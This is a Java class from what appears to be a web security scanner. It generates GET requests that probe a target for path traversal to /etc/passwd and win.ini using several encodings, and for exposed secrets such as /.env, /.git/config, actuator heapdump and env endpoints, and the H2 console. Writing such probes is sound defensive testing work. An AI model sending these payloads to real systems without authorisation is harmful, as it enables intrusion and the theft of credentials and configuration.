package dev.portcullis.drill;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Places that no application should show to anybody: files behind the path, and things that are left lying about. */
final class PlaceTricks implements Tricks {

    private static final Map<String, String> PLACES = new LinkedHashMap<>();

    static {
        PLACES.put("climb", "/../../../../etc/passwd");
        PLACES.put("encoded-climb", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd");
        PLACES.put("encoded-slashes", "/..%2f..%2f..%2fetc%2fpasswd");
        PLACES.put("twice-encoded", "/%252e%252e/%252e%252e/etc/passwd");
        PLACES.put("climb-with-parameter", "/..;/..;/etc/passwd");
        PLACES.put("overlong", "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd");
        PLACES.put("windows", "/..%5c..%5cwindows%5cwin.ini");
        PLACES.put("web-inf", "/WEB-INF/web.xml");
        PLACES.put("settings", "/.env");
        PLACES.put("repository", "/.git/config");
        PLACES.put("heap-dump", "/actuator/heapdump");
        PLACES.put("environment", "/actuator/env");
        PLACES.put("database-console", "/h2-console/");
        PLACES.put("copy", "/index.php.bak");
    }

    @Override
    public String kind() {
        return "places";
    }

    @Override
    public String about() {
        return "Files behind the path, and places that nobody should see";
    }

    @Override
    public List<String> ids() {
        return new ArrayList<>(PLACES.keySet());
    }

    @Override
    public List<Shot> against(Scene scene) {
        var plain = Draft.of(
                "GET",
                scene.target().root() + scene.aim().path(),
                scene.target().authority());
        var path = scene.aim().path();
        var root = path.endsWith("/") ? path.substring(0, path.length() - 1) : path;
        var shots = new ArrayList<Shot>();
        PLACES.forEach((id, place) -> {
            var folder = place.contains("etc") || place.contains("windows") ? root : "";
            var attack = plain.target(scene.target().root() + folder + place);
            shots.add(new Shot(id, "path", attack, plain, Proof.NEVER));
        });
        return shots;
    }
}
